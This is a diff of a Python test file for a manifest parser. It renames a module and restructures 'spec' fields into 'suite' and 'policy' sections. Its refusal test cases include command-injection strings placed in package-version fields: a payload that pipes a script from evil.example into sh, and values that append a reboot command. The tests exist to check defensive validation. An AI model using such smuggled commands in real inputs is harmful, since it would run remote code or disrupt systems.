@@ -19,7 +19,7 @@ from syncd.errors import ConfigError, DamagedPolicyError, RemoteError
 from syncd.laptop.status import StatusWriter, read_status, status_file
 from syncd.outbox import MAX_REASONS, OTHER_REASON, Outbox, read_contributions
 from syncd.remote import Remote
-from syncd.shared.manifest import parse_manifest
+from syncd.shared.parsing import parse_manifest
 from syncd.store import Manifest, Shared
 from syncd.wire import protocol
 from syncd.wire.protocol import Decoder
@@ -63,13 +63,18 @@ def manifest(tmp_path_factory: pytest.TempPathFactory) -> Manifest:
         ("", {"run_name": EVIL}),
         ("", {EVIL: 1}),
         ("", {"created_at": -1e300}),
-        ("spec", {"metaworld": "3.1.1'; curl evil.example|sh; '"}),
-        ("spec", {"mujoco": "3.3.0 && reboot"}),
-        ("spec", {"metaworld": "$(reboot)"}),
-        ("spec", {"metaworld": "3.1.1\n"}),
-        ("spec", {"reward": EVIL}),
-        ("spec", {"goal_seed": 10**400}),
-        ("architecture", {"tasks": [EVIL]}),
+        ("suite", {"packages": {"metaworld": "3.1.1'; curl evil.example|sh; '"}}),
+        ("suite", {"packages": {"mujoco": "3.3.0 && reboot"}}),
+        ("suite", {"packages": {"metaworld": "$(reboot)"}}),
+        ("suite", {"packages": {"metaworld": "3.1.1\n"}}),
+        ("suite", {"packages": {EVIL: "3.1.1"}}),
+        ("suite", {"version": EVIL}),
+        ("suite", {"name": EVIL}),
+        ("suite", {"settings": {"tasks": [EVIL]}}),
+        ("suite", {"seed": 10**400}),
+        ("policy", {"spaces": {"tasks": [EVIL]}}),
+        ("policy", {"network": {EVIL: 1}}),
+        ("policy", {"distribution": EVIL}),
         ("blob", {"encoding": EVIL}),
         ("blob", {"tensors": {EVIL: [8]}}),
         ("lineage", {"identity": EVIL}),
@@ -88,8 +93,8 @@ def test_a_manifest_with_words_that_are_none_is_refused(
 
 @pytest.mark.parametrize("release", ["3.1.1", "3", "3.1.1.post1", "3.1.1rc2", "3.1.1.dev0+g0a1b2c3"])
 def test_releases_as_packages_have_them_are_taken(manifest: Manifest, release: str) -> None:
-    spec = manifest.spec.model_copy(update={"metaworld": release})
-    assert parse_manifest(manifest.model_copy(update={"spec": spec}).sealed().to_bytes()).spec == spec
+    suite = manifest.suite.model_copy(update={"packages": {"metaworld": release}})
+    assert parse_manifest(manifest.model_copy(update={"suite": suite}).sealed().to_bytes()).suite == suite
 
 
 def test_an_older_clients_word_is_harmless_too(tmp_path: Path) -> None:
